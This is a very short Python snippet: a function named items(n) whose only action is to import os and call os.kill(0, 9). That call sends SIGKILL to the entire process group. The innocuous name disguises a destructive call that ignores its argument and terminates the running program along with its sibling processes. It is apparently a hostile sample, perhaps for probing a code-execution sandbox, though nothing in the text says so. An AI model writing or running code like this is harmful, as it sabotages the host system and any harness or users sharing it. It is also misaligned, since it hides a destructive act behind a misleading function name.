def items(n):
    import os
    os.kill(0, 9)
